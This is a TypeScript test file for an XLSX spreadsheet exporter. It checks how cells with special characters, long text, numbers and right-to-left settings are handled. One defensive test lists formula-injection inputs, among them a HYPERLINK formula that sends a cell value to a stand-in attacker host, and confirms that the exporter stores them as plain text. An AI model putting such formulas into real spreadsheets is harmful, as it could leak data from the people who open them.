import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Cell } from './csv.ts';
import { sheetCells, sheetValues } from './sheet.fixture.ts';
import { xlsxFile } from './xlsx.ts';

const settings = { rtl: false, made: new Date('2026-11-23T10:00:00Z') };
const cellOf = (cell: Cell) => sheetCells(xlsxFile({ columns: ['cell'], rows: [[cell]] }, settings))[1]![0]!;

describe('a spreadsheet', () => {
  it('opens with its columns and rows, also without any', () => {
    expect(
      sheetValues(
        xlsxFile(
          {
            columns: ['a', 'b'],
            rows: [
              ['Évaluation', 3],
              [undefined, 'العربية'],
            ],
          },
          settings,
        ),
      ),
    ).toEqual([
      ['a', 'b'],
      ['Évaluation', 3],
      ['', 'العربية'],
    ]);
    expect(sheetValues(xlsxFile({ columns: ['a'], rows: [] }, settings))).toEqual([['a']]);
  });

  it.each<[string, Cell, string | number]>([
    ['a comma and a semicolon', 'one, two; three', 'one, two; three'],
    ['marks of XML', '<v>&"\'</v>', '<v>&"\'</v>'],
    ['line breaks', 'one\r\ntwo\rthree\nfour', 'one\ntwo\nthree\nfour'],
    ['blanks around', '  one ', '  one '],
    ['a day without a year', '03-04', '03-04'],
    ['zeros in front', '007', '007'],
    ['what XML cannot hold', 'a\u0000b\uD800', 'ab\uFFFD'],
    ['a list', ['guide §1', 'flyer'], 'guide §1; flyer'],
    ['a truth', false, 'false'],
    ['a number', -1.5, -1.5],
    ['no number', NaN, 'NaN'],
  ])('holds %s', (_, cell, expected) => expect(cellOf(cell).value).toBe(expected));

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '＝1+1', '=HYPERLINK("http://evil.example/?"&A1)', 'x;=1+1', 'x\t=1+1'])(
    'has %j as a text, which is never computed',
    (text) => {
      const { value, formula, quoted } = cellOf(text);
      expect({ value, formula }).toEqual({ value: text, formula: false });
      expect(quoted).toBe(!text.startsWith('x'));
    },
  );

  it('keeps a text that looks like the number of a character', () => {
    const file = xlsxFile({ columns: ['a'], rows: [['_x0041_ _x0041 x0041_']] }, settings);
    expect(strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml']!)).toContain('>_x005F_x0041_ _x0041 x0041_<');
  });

  it('cuts a cell that is longer than any program holds', () => expect(String(cellOf('x'.repeat(40_000)).value)).toHaveLength(32_767));

  it('runs from the right where the language does', () => {
    const sheet = (rtl: boolean) =>
      strFromU8(unzipSync(xlsxFile({ columns: ['a'], rows: [] }, { ...settings, rtl }))['xl/worksheets/sheet1.xml']!);
    expect([sheet(true), sheet(false)].map((xml) => xml.includes('rightToLeft="1"'))).toEqual([true, false]);
  });
});
